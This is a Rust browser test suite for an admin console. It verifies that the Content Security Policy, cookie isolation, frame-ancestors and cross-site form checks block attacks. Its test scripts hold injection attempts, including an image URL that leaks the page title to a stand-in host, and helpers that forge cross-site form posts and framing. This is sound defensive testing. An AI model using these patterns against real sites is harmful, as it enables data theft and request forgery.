//! What the browser itself blocks: pages that load resources from other sites, and attempts by other sites.

use rollcall_insight::Insight;
use rollcall_tests::browser::browse;
use serde_json::json;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpListener;

/// Tries every attack that injected markup could attempt, and returns the directive that blocked each one.
const TRY_EVERYTHING: &str = r#"
    const attempts = {
        "script-src-elem": () => add("script", { textContent: "window.hit = 1" }),
        "script-src-attr": () => { document.body.setAttribute("onclick", "window.hit = 1"); document.body.click(); },
        "style-src-elem": () => add("style", { textContent: "body { display: none }" }),
        "style-src-attr": () => document.body.setAttribute("style", "display: none"),
        "img-src": () => add("img", { src: "https://elsewhere.test/?" + document.title }),
        "connect-src": () => fetch("https://elsewhere.test/").catch(() => {}),
        "frame-src": () => add("iframe", { src: "https://elsewhere.test/" }),
        "base-uri": () => add("base", { href: "https://elsewhere.test/" }),
        "form-action": () => add("form", { action: "https://elsewhere.test/", method: "post" }).submit(),
    };
    const add = (name, properties) => {
        const element = Object.assign(document.createElement(name), properties);
        document.body.append(element);
        return element;
    };
    const refused = (attempt) => new Promise((done) => {
        document.addEventListener("securitypolicyviolation", (event) => done(event.effectiveDirective), { once: true });
        attempt();
    });
    return (async () => {
        const by = [];
        for (const attempt of Object.values(attempts)) by.push(await refused(attempt));
        return [Object.keys(attempts), by, window.hit === undefined, document.baseURI.startsWith(location.origin)];
    })();
"#;

#[test]
fn a_page_loads_and_runs_only_its_own_resources() {
    browse(async |service, browser| {
        let tenant = service.tenant("policy").await;
        browser.open_console(service, &tenant, "owner").await;
        let tried = browser.eval(TRY_EVERYTHING, &[]).await;
        assert_eq!(tried[0], tried[1]);
        assert_eq!(json!([tried[2], tried[3]]), json!([true, true]));
    });
}

#[test]
fn scripts_cannot_read_the_session_and_signing_out_leaves_no_data() {
    browse(async |service, browser| {
        let tenant = service.tenant("leftovers").await;
        tenant.idp().user("ada@example.test").await;
        browser.open_console(service, &tenant, "owner").await;
        browser.go("/console/people").await;
        browser.wait_for_text("ada@example.test").await;
        let held = "return [document.cookie, localStorage.length, Object.entries(sessionStorage)]";
        // htmx stores the path for this window until sign-out, regardless of its history settings.
        let address = json!([["htmx-current-path-for-history", "/console/people"]]);
        assert_eq!(browser.eval(held, &[]).await, json!(["", 0, address]));

        // The next user of this computer goes back in the history and sees no data.
        browser.click("Sign out").await;
        browser.wait_for_text("You are signed out").await;
        assert_eq!(browser.eval(held, &[]).await, json!(["", 0, []]));
        browser.go_back().await;
        browser.wait_for_path("/console/people").await;
        browser.wait_for_text("You are signed out").await;
        assert!(!browser.text().await.contains("ada@example.test"));
    });
}

/// Sends a form to the console from the current page.
const SEND: &str = r#"
    const form = Object.assign(document.createElement("form"), { method: "post", action: arguments[0] });
    for (const [name, value] of Object.entries(arguments[1])) {
        form.append(Object.assign(document.createElement("input"), { name, value }));
    }
    document.body.append(form);
    form.submit();
"#;

/// Loads a page in a frame and resolves when the frame has loaded or the browser has blocked it.
const FRAME: &str = r#"
    return new Promise((done) => {
        const frame = document.createElement("iframe");
        frame.onload = () => done(null);
        frame.src = arguments[0];
        document.body.append(frame);
    });
"#;

#[test]
fn another_site_can_neither_frame_a_page_nor_send_its_forms() {
    browse(async |service, browser| {
        let tenant = service.tenant("elsewhere").await;
        let group = tenant.idp().group("Engineers", &[]).await;
        browser.open_console(service, &tenant, "owner").await;
        browser.go(&format!("/console/groups/{group}")).await;
        let url = browser.url().await;
        // Assume that the other site even knows the form token of the session.
        let token = "return document.querySelector('[name=form_token]').value";
        let token = browser.eval(token, &[]).await;
        let action = json!(format!("{url}/role"));
        let form = json!({"from": "none", "role": "admin", "form_token": token});

        // The browser sends the cookie with requests from another port of the same host, so the console must refuse
        // them. It does not send the cookie with requests from another host.
        let (neighbour, stranger) = foreign_sites().await;
        for (site, said) in [
            (neighbour, "This request came from another site"),
            (stranger, "You are signed out"),
        ] {
            browser.go(&site).await;
            browser.wait_for_text("Elsewhere").await;
            browser.browser_warnings().await;
            browser.eval(FRAME, &[json!(url)]).await;
            let refused = async || {
                let warnings = browser.browser_warnings().await.join("\n");
                warnings.contains("frame-ancestors")
            };
            browser.eventually("a blocked frame", refused).await;
            browser.eval(SEND, &[action.clone(), form.clone()]).await;
            browser.wait_for_text(said).await;
        }
        let mapped = Insight::of(tenant.directory()).group(&group).await;
        assert_eq!(mapped.map(|group| group.role).ok(), Some(None));

        // The console accepts the same form from its own page, so it refused the form because of the sender.
        browser.go(&url).await;
        browser.eval(SEND, &[action, form]).await;
        browser.wait_for_text("Roles saved").await;
    });
}

#[test]
fn another_site_cannot_put_an_admin_into_another_tenant() {
    browse(async |service, browser| {
        let (ours, theirs) = (service.tenant("ours").await, service.tenant("theirs").await);
        let application = service.application();
        browser.open_console(service, &ours, "owner").await;
        let console = browser.url().await;
        let open = json!(format!("{console}/open"));
        let login = application.log_in(theirs.id(), "mallory", None).await;
        let session = json!({"session": login.expect(200).string("/session/token")});
        let path = format!("/tenants/{}/portal-links", theirs.id());
        let link = application
            .post(&path, json!({"role_id": "admin"}))
            .await
            .expect(201);
        let link = link.string("/url");
        let (neighbour, stranger) = foreign_sites().await;
        let asked = "You are signed in to ours as Setup link";

        for site in [&neighbour, &stranger] {
            browser.go(site).await;
            browser.wait_for_text("Elsewhere").await;
            browser.eval(SEND, &[open.clone(), session.clone()]).await;
            browser.wait_for_text(asked).await;
            browser.go(site).await;
            browser.wait_for_text("Elsewhere").await;
            let go = "location.href = arguments[0]";
            browser.eval(go, &[json!(link)]).await;
            browser.wait_for_text(asked).await;
            browser.assert_accessible().await;
            browser.click("Stay where you are").await;
            browser.wait_for_text("ours\nUser provisioning").await;
        }

        // If nobody is signed in, no click is needed. If another person is signed in, one click confirms the change.
        for signs_out in [false, true] {
            if signs_out {
                browser.click("Sign out").await;
                browser.wait_for_text("You are signed out").await;
            }
            browser.go(&stranger).await;
            browser.wait_for_text("Elsewhere").await;
            let login = application.log_in(theirs.id(), "ada", None).await;
            let session = json!({"session": login.expect(200).string("/session/token")});
            browser.eval(SEND, &[open.clone(), session]).await;
            if !signs_out {
                browser.wait_for_text(asked).await;
                browser.click("Open the console").await;
            }
            browser.wait_for_text("theirs\nUser provisioning").await;
        }
    });
}

/// Serves an almost empty page, and returns its URLs on the service's host and on another host.
async fn foreign_sites() -> (String, String) {
    const PAGE: &[u8] = b"HTTP/1.1 200 OK\r\ncontent-type: text/html\r\nconnection: close\r\n\r\n\
        <!doctype html><p>Elsewhere";
    let listener = TcpListener::bind(("127.0.0.1", 0)).await;
    let listener = listener.unwrap_or_else(|error| panic!("{error}"));
    let port = listener.local_addr().map_or(0, |address| address.port());
    tokio::spawn(async move {
        while let Ok((mut visitor, _)) = listener.accept().await {
            // A browser also requests an icon, and opens connections that it does not use.
            tokio::spawn(async move {
                let _ = visitor.read(&mut [0; 4_096]).await;
                let _ = visitor.write_all(PAGE).await;
            });
        }
    });
    (
        format!("http://127.0.0.1:{port}/"),
        format!("http://localhost:{port}/"),
    )
}
